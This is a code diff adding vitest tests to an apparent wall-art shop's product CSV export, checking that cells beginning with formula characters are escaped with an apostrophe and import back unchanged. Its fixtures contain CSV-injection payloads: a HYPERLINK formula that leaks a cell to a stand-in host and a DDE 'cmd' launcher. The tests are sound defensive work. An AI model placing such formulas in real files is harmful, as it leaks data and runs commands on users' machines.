@@ -2,6 +2,7 @@ import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { PRODUCT_CSV_COLUMNS } from '@wallart/domain';
 import { ProductModel } from '../../db/models';
+import { guardApostrophes, unescapeFormula } from './products-csv-rows';
 import { createProduct, createUser, type SignedIn } from '../../test/factories';
 import {
   apiError,
@@ -89,6 +90,37 @@ describe('GET /api/product/export.csv', () => {
       sizes: '12x18 in|4500.5|5000|7',
       images: '/uploads/a.jpg|/uploads/b.jpg',
     });
+  });
+
+  it('writes cells a spreadsheet would run as formulas as text, and imports them back unchanged', async () => {
+    const texts = {
+      name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+      description: '+cmd|" /C calc"!A0',
+      altNames: ['@SUM(1+1)', '-2+3', '\uFF1Dwide'],
+    };
+    // Text that already starts with apostrophes, with and without a formula character after.
+    const quoted = { name: "'=already quoted", description: "''+twice", altNames: ["'plain"] };
+    await createProduct(app, { productId: 'FX-1', ...texts });
+    await createProduct(app, { productId: 'FX-2', ...quoted });
+    const exported = await asAdmin.product.exportCsv();
+    const records = parse(exported, { columns: true }) as Record<string, string>[];
+    const cells = records.flatMap((r) => [r.name, r.description, r.altNames]);
+    // No cell starts with a formula character (before: 3 of 6 did).
+    expect(cells.filter((cell) => /^[=+\-@\t\r\uFF1D]/.test(cell ?? ''))).toEqual([]);
+    expect(records[0]?.name).toBe(`'${texts.name}`);
+    expect(records[0]?.description).toBe(`'${texts.description}`);
+    expect(records[0]?.altNames).toBe(`'${texts.altNames.join('|')}`);
+    expect(records[1]?.name).toBe(`'${quoted.name}`);
+
+    const before = await Promise.all(['FX-1', 'FX-2'].map((id) => shop.product.get(id)));
+    expect(await importCsv(exported, false)).toMatchObject({ updated: 2, errors: [] });
+    const after = await Promise.all(['FX-1', 'FX-2'].map((id) => shop.product.get(id)));
+    expect(after.map((p) => [p.name, p.description, p.altNames])).toEqual(
+      before.map((p) => [p.name, p.description, p.altNames]),
+    );
+    expect(after[0]).toMatchObject(texts);
+    expect(after[1]).toMatchObject(quoted);
+    expect(await asAdmin.product.exportCsv()).toBe(exported);
   });
 
   it('an export imports back unchanged', async () => {
@@ -428,5 +460,17 @@ describe('sizes in the CSV', () => {
     const error = await refusalOf(csv, false);
     expect(error.errors.map((e) => e.path)).toEqual(['row 2', 'row 3', 'row 4', 'row 5', 'row 6']);
     expect(await productIds()).toEqual([]);
+  });
+});
+
+describe('formula cells, one by one', () => {
+  it('takes off the apostrophe the export put before =, +, -, @, a tab or a carriage return', () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r', '\uFF1D']) {
+      const text = `${start}1+1`;
+      expect(unescapeFormula(`'${text}`), JSON.stringify(start)).toBe(text);
+      expect(unescapeFormula(guardApostrophes(`'${text}`))).toBe(`'${text}`);
+    }
+    expect(unescapeFormula("'plain")).toBe("'plain");
+    expect(guardApostrophes("'plain")).toBe("'plain");
   });
 });
